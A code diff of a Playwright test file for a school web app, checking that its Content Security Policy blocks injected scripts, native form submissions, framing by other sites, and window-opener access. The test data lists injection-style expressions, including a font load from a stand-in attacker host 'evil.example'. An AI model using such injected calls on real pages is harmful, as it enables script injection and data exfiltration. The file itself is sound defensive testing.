@@ -1,9 +1,9 @@
+import type { Page } from '@playwright/test';
 import { people } from '@superhero/school-cloud/people';
-import { expect, logIn, test } from './fixtures.ts';
-import { openSibling } from './harness/sibling.ts';
-import { tryInPage } from './harness/try-in-page.ts';
+import { expect, heading, logIn, test } from './fixtures.ts';
+import { openOtherSite } from './harness/other-site.ts';
 
-/** What a script that got onto the page might try, and the rule that it must run into. */
+/** What an injected script might try, and the directive that must block it. */
 const attempts = {
   "document.body.innerHTML = '<b>x</b>'": 'require-trusted-types-for',
   "document.write('<b>x</b>')": 'require-trusted-types-for',
@@ -22,13 +22,21 @@ const attempts = {
   "new FontFace('evil', 'url(https://evil.example/take.woff2)').load()": 'font-src',
 };
 
-test('a script on the page can neither run text, nor write HTML, nor send anything elsewhere', async ({
-  page,
-  problems,
-}) => {
+/**
+ * Runs this expression as a script on the page would: `done`, or the name of the error. It runs in a timer, because
+ * the browser allows the test itself what it forbids the page.
+ */
+function tryInPage(page: Page, expression: string): Promise<unknown> {
+  return page.evaluate(`new Promise((resolve) => {
+    setTimeout(() => {
+      Promise.resolve().then(() => ${expression}).then(() => resolve('done'), ({ name }) => resolve(name));
+    });
+  })`);
+}
+
+test('the policy stops scripts that run text, write HTML or send data', async ({ page, problems }) => {
   problems.expect(/Content Security Policy/, /Trusted/);
-  await page.goto('/login');
-  await logIn(page, people.superhero);
+  await logIn(page, people.superhero, '/login');
   for (const [attempt, rule] of Object.entries(attempts)) {
     problems.expect(new RegExp(`policy violation: ${rule} `));
     expect(await tryInPage(page, attempt), attempt).toMatch(/Error$/);
@@ -36,22 +44,22 @@ test('a script on the page can neither run text, nor write HTML, nor send anythi
   await expect(page.getByRole('banner')).toContainText('Greta Sonnenfeld');
 });
 
-test('a form on the page can be sent nowhere, not even to the site itself', async ({ page, problems }) => {
+test('the policy stops native form submissions, even to the site itself', async ({ page, problems }) => {
   problems.expect(/form-action 'none'/, /policy violation: form-action/);
   await page.goto('/login');
-  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Anmelden');
+  await expect(heading(page)).toHaveText('Anmelden');
   const asked: string[] = [];
   page.on('request', (request) => asked.push(request.url()));
-  // Past the program that would have sent it otherwise.
+  // Bypasses the handler of the form.
   await page.evaluate(() => document.querySelector('form')?.submit());
-  await expect.poll(() => problems.verdict().missing).toEqual([]);
+  await expect.poll(() => problems.result().missing).toEqual([]);
   expect(await page.evaluate(() => window.location.search)).toBe('');
   expect(asked).toEqual([]);
 });
 
-test('another site that frames the page gets an empty frame', async ({ page, site, leaks, problems }) => {
+test('another site that frames the page gets an empty frame', async ({ page, site, problems, leaks }) => {
   problems.expect(/frame-ancestors 'none'/);
-  const thief = await openSibling();
+  const thief = await openOtherSite(page.context());
   leaks.allow(thief.url);
   const parts: string[] = [];
   page.on('request', (request) => {
@@ -63,14 +71,14 @@ test('another site that frames the page gets an empty frame', async ({ page, sit
     frame.src = address;
     document.body.append(frame);
   }, `${site.url}/login`);
-  await expect.poll(() => problems.verdict().missing).toEqual([]);
+  await expect.poll(() => problems.result().missing).toEqual([]);
   await expect(page.frameLocator('iframe').getByRole('heading', { level: 1 })).toHaveCount(0);
   expect(parts).toEqual(['/login']);
   await thief.close();
 });
 
-test('another site that opens the page in a window gets no hold of it', async ({ page, site, leaks }) => {
-  const thief = await openSibling();
+test('another site that opens the page gets no reference to it', async ({ page, site, leaks }) => {
+  const thief = await openOtherSite(page.context());
   leaks.allow(thief.url);
   await page.goto(thief.url);
   const opened = page.waitForEvent('popup');
@@ -83,7 +91,7 @@ test('another site that opens the page in a window gets no hold of it', async ({
   await thief.close();
 });
 
-test('the page is isolated from every other site in the browser', async ({ page }) => {
+test('the page is cross-origin isolated', async ({ page }) => {
   await page.goto('/login');
   expect(await page.evaluate(() => window.crossOriginIsolated)).toBe(true);
 });
@@ -91,7 +99,7 @@ test('the page is isolated from every other site in the browser', async ({ page 
 test.describe('without JavaScript', () => {
   test.use({ javaScriptEnabled: false });
 
-  test('there is no form whose password could end up in an address', async ({ page }) => {
+  test('renders no form whose password could end up in a URL', async ({ page }) => {
     const asked: string[] = [];
     page.on('request', (request) => asked.push(request.method()));
     await page.goto('/login');
